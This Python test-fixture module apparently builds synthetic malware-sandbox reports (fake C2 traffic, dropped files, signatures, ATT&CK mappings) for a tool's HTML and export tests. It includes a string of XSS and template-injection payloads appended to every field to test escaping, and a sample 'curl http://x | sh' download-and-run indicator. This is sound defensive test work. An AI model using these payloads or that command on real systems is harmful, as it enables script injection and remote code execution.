"""Reports for the HTML and export tests: a real one built from tests/data/trace-basic.log,
a rich one (that plus synthetic capture, static, dropped files, signatures and ATT&CK), a
hostile one (every string carrying markup, template syntax and invisible characters) and
a huge one."""

from __future__ import annotations

import copy
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from pydantic import ValidationError

from aasee.processing.models import AnalysisMeta, Report, Sample
from aasee.processing.report import build_report, report_dict

BASIC_TRACE = Path(__file__).parents[2] / "data" / "trace-basic.log"
SAMPLE_SHA256 = "5f" * 32
PUBLIC_IP = "93.184.216.34"
C2_NAME = "c2.evil-example.com"


def basic_report() -> Report:
    """The report the real builder makes of the basic trace."""
    return build_report(
        sample=Sample(
            name="sample",
            size=4,
            md5="a" * 32,
            sha1="b" * 40,
            sha256=SAMPLE_SHA256,
            type="ELF 64-bit LSB executable",
        ),
        analysis=AnalysisMeta(
            id="t-1",
            started=datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
            ended="2024-05-01T12:01:00Z",
            timeout=60,
            hypervisor="qemu",
            accel="tcg",
            guest_image="debian-bookworm-amd64",
            boot="snapshot",
            timings={"restore": 0.21, "run": 30.0},
        ),
        trace_path=BASIC_TRACE,
        root_pid=117,
        initial_cwd="/tmp",
        clock=(5.0, 1_700_000_000.0),
        exits=[{"ev": "exit", "pid": 117, "time": 1_700_000_003.0, "code": 7}],
        stdout=b"hello\n",
        stderr=b"warning: something\n",
    )


def _static(name: str, sha256: str) -> dict[str, Any]:
    return {
        "name": name,
        "size": 4096,
        "md5": "c" * 32,
        "sha1": "d" * 40,
        "sha256": sha256,
        "ssdeep": "48:abcdefgh:ijklmnop",
        "type": "ELF 64-bit LSB executable, x86-64",
        "mime": "application/x-executable",
        "entropy": 5.9,
        "analysed_bytes": 4096,
        "elf": {
            "machine": "x86-64",
            "bits": 64,
            "endianness": "little",
            "elf_type": "EXEC",
            "entry_point": 4198400,
            "static": False,
            "interpreter": "/lib64/ld-linux-x86-64.so.2",
            "needed": ["libc.so.6"],
            "sections": [{"name": ".text", "type": "PROGBITS", "size": 1024, "entropy": 6.1}],
            "symbols": 12,
            "imported_functions": ["connect", "ptrace"],
            "packers": ["UPX"],
        },
        "strings": {
            "count": 42,
            "urls": [f"http://{C2_NAME}/gate.php", "http://10.0.2.2/local"],
            "ips": ["203.0.113.9", "10.0.2.3", "8.8.8.8"],
            "domains": ["strings-only.example.org"],
            "interesting": ["/etc/shadow"],
        },
        "yara": [
            {
                "rule": "UPX_packed",
                "namespace": "packers",
                "source": "bundled",
                "tags": ["packer"],
                "meta": {"description": "UPX header"},
                "strings": [{"identifier": "$upx", "offset": 16, "data": "UPX!"}],
            }
        ],
    }


def rich_dict() -> dict[str, Any]:
    data = report_dict(basic_report())
    data["network"]["connections"].append(
        {
            "pid": 117,
            "process": data["processes"][0]["key"],
            "time": 5.8,
            "count": 2,
            "result": "ok",
            "proto": "tcp",
            "family": "ipv4",
            "dst_ip": PUBLIC_IP,
            "dst_port": 443,
        }
    )
    root = data["processes"][0]["key"]
    captured = {"time_epoch": 1_700_000_001.0, "time_utc": "2023-11-14T22:13:21.000000Z"}
    data["network"]["dns_traffic"] = [
        {
            **captured,
            "src_ip": "10.0.2.15",
            "src_port": 40000,
            "dst_ip": "10.0.2.3",
            "dst_port": 53,
            "proto": "udp",
            "id": 7,
            "name": C2_NAME,
            "type": "A",
            "rcode": "NOERROR",
            "answers": [{"name": C2_NAME, "type": "A", "ttl": 300, "data": "10.0.2.2"}],
            "pid": 117,
            "process": root,
        }
    ]
    data["network"]["http"] = [
        {
            **captured,
            "src_ip": "10.0.2.15",
            "src_port": 40001,
            "dst_ip": "10.0.2.2",
            "dst_port": 80,
            "method": "POST",
            "version": "HTTP/1.1",
            "host": f"{C2_NAME}:80",
            "path": "/gate.php?id=1",
            "url": f"http://{C2_NAME}/gate.php?id=1",
            "user_agent": "EvilBot/1.0",
            "body_size": 12,
            "status": 200,
            "pid": 117,
            "process": root,
        }
    ]
    data["network"]["tls"] = [
        {
            **captured,
            "src_ip": "10.0.2.15",
            "src_port": 40002,
            "dst_ip": PUBLIC_IP,
            "dst_port": 443,
            "sni": "tls.evil-example.net",
            "version": "TLS 1.2",
            "client_version": "TLS 1.2",
            "supported_versions": ["TLS 1.3"],
            "alpn": ["h2"],
            "ja3": "771,4865,0,29,0",
            "ja3_md5": "e" * 32,
            "pid": 117,
            "process": root,
        }
    ]
    data["network"]["flows"] = [
        {
            "proto": "tcp",
            "ip_proto": 6,
            "family": "ipv4",
            "direction": "outbound",
            "src_ip": "10.0.2.15",
            "src_port": 40002,
            "dst_ip": PUBLIC_IP,
            "dst_port": 443,
            "first_epoch": 1_700_000_001.0,
            "last_epoch": 1_700_000_002.0,
            "src_packets": 5,
            "dst_packets": 4,
            "tcp_flags": ["S", "A"],
            "pid": 117,
            "process": root,
        },
        {
            "proto": "udp",
            "ip_proto": 17,
            "family": "ipv4",
            "direction": "outbound",
            "src_ip": "10.0.2.15",
            "src_port": 40000,
            "dst_ip": "10.0.2.3",
            "dst_port": 53,
            "first_epoch": 1_700_000_001.0,
            "last_epoch": 1_700_000_001.1,
        },
    ]
    data["network"]["capture"].update(analysed=True, packets=9, bytes=900)
    data["static"] = _static("sample", SAMPLE_SHA256)
    data["dropped"] = [
        {
            "path": "/tmp/hello.txt",
            "size": 6,
            "collected": 6,
            "md5": "1" * 32,
            "sha1": "2" * 40,
            "sha256": "3" * 64,
            "stored_as": "dropped/0001",
            "pid": 117,
            "process": root,
            "static": _static("hello.txt", "3" * 64),
        },
        {
            "path": "/tmp/big.bin",
            "size": 100_000_000,
            "collected": 1_000_000,
            "truncated": True,
            "md5": "4" * 32,
            "sha1": "5" * 40,
            "sha256": "6" * 64,
            "stored_as": "dropped/0002",
        },
        {"path": "/tmp/gone", "size": 0, "error": "vanished before collection"},
        {
            "path": "/tmp/payload.exe",
            "size": 2048,
            "collected": 2048,
            "md5": "7" * 32,
            "sha1": "8" * 40,
            "sha256": "9" * 64,
            "stored_as": "dropped/0003",
            "static": dict(
                _static("payload.exe", "9" * 64),
                elf=None,
                pe={
                    "machine": "AMD64",
                    "bits": 64,
                    "subsystem": "WINDOWS_GUI",
                    "timestamp": 1_700_000_000,
                    "timestamp_utc": "2023-11-14T22:13:20Z",
                    "entry_point": 4096,
                    "imphash": "f" * 32,
                    "imports": [{"dll": "KERNEL32.dll", "functions": ["VirtualAlloc"]}],
                    "sections": [
                        {"name": ".text", "virtual_size": 100, "raw_size": 512, "entropy": 7.9}
                    ],
                },
            ),
        },
        {
            "path": "/tmp/run.sh",
            "size": 40,
            "collected": 40,
            "md5": "a1" * 16,
            "sha1": "b2" * 20,
            "sha256": "c3" * 32,
            "static": dict(
                _static("run.sh", "c3" * 32),
                elf=None,
                script={
                    "language": "shell",
                    "interpreter": "/bin/sh",
                    "lines": 3,
                    "indicators": [
                        {
                            "id": "download_exec",
                            "description": "downloads and runs a file",
                            "line": 2,
                            "text": "curl http://x | sh",
                        }
                    ],
                },
            ),
        },
    ]
    data["signatures"] = [
        {
            "id": "anti_debug_ptrace",
            "name": "Checks for a debugger with ptrace",
            "description": "The sample called PTRACE_TRACEME.",
            "severity": "high",
            "category": "anti-analysis",
            "techniques": ["T1622"],
            "evidence": [
                {
                    "ref": "/syscalls/ptrace/0",
                    "summary": "PTRACE_TRACEME",
                    "pid": 117,
                    "process": root,
                },
            ],
        },
        {
            "id": "c2_http",
            "name": "Talks HTTP to a remote host",
            "description": "HTTP request to a name it resolved.",
            "severity": "medium",
            "category": "network",
            "techniques": ["T1071.001"],
            "evidence": [
                {"ref": "/network/http/0", "summary": "POST to gate.php"},
                {"ref": "/network/connections/1/dst_ip", "summary": "connect 443"},
                {"ref": "/processes/1", "summary": "child ls"},
                {"ref": "/files/written/0", "summary": "wrote hello.txt"},
                {"ref": "/static/yara/0", "summary": "packed"},
                {"ref": "/files/written/99", "summary": "a broken reference"},
            ],
        },
    ]
    data["attack"] = {
        "release": "18.1",
        "ids_as_of": "19",
        "techniques": [
            {
                "id": "T1622",
                "name": "Debugger Evasion",
                "tactics": ["Defense Evasion", "Discovery"],
                "signatures": ["anti_debug_ptrace"],
                "evidence": ["/syscalls/ptrace/0"],
            },
            {
                "id": "T1071.001",
                "name": "Application Layer Protocol: Web Protocols",
                "tactics": ["Command and Control"],
                "signatures": ["c2_http"],
                "evidence": ["/network/http/0"],
            },
        ],
        "tactics": [
            {"id": "TA0005", "name": "Defense Evasion", "techniques": ["T1622"]},
            {"id": "TA0007", "name": "Discovery", "techniques": ["T1622"]},
            {"id": "TA0011", "name": "Command and Control", "techniques": ["T1071.001"]},
        ],
    }
    data["score"] = 8.2
    data["verdict"] = "malicious"
    data["score_details"] = {"formula": "max + 0.5 * rest", "components": {"high": 7.0}}
    data["errors"] = ["kernel trace: 3 events lost"]
    return data


def rich_report() -> Report:
    return Report.model_validate(rich_dict())


HOSTILE = (
    '<script>window.__pwned=1;alert(1)</script>"><svg onload=alert(3)>'
    "</script><script>alert(4)</script><img src=x onerror=alert(2)>"
    "' onmouseover='window.__pwned=5' {{ 'zq' * 3 }}{% if 1 %}jinja{% endif %}"
    "\u202egnp.exe\u200b\x1b[31m\x00&amp;</style></title></textarea>"
)


def _poison(value: Any, payload: str) -> Any:
    if isinstance(value, str):
        return value + payload
    if isinstance(value, list):
        return [_poison(v, payload) for v in value]
    if isinstance(value, dict):
        return {k: _poison(v, payload) for k, v in value.items()}
    return value


def _poison_keys(mapping: dict[str, Any], payload: str) -> dict[str, Any]:
    return {k + payload: v for k, v in mapping.items()}


def hostile_dict(payload: str = HOSTILE) -> dict[str, Any]:
    """The rich report with ``payload`` appended to every string the models accept as free
    text (values of closed vocabularies are put back)."""
    clean = rich_dict()
    data = _poison(copy.deepcopy(clean), payload)
    # Free-form mappings: their keys are text too.
    data["analysis"]["timings"] = _poison_keys(data["analysis"]["timings"], payload)
    data["syscalls"]["counts"] = _poison_keys(data["syscalls"]["counts"], payload)
    data["score_details"]["components"] = _poison_keys(data["score_details"]["components"], payload)
    data["static"]["yara"][0]["meta"] = _poison_keys(data["static"]["yara"][0]["meta"], payload)
    for _ in range(50):
        try:
            Report.model_validate(data)
            return data
        except ValidationError as exc:
            for error in exc.errors():
                _restore(data, clean, tuple(error["loc"]))
    raise AssertionError("could not make a valid hostile report")


def _restore(data: Any, clean: Any, loc: tuple[Any, ...]) -> None:
    """Put back the clean value at ``loc``, a pydantic error location (union branches and
    literal tags can add parts past the value; the walk stops at the first plain value)."""
    for part in loc:
        if not isinstance(data, dict | list) or not isinstance(clean, dict | list):
            return
        if isinstance(data, list) and not (isinstance(part, int) and part < len(data)):
            return
        if isinstance(data, dict) and part not in data:
            return
        if not isinstance(data[part], dict | list):
            data[part] = copy.deepcopy(clean[part])
            return
        data, clean = data[part], clean[part]


def hostile_report(payload: str = HOSTILE) -> Report:
    return Report.model_validate(hostile_dict(payload))
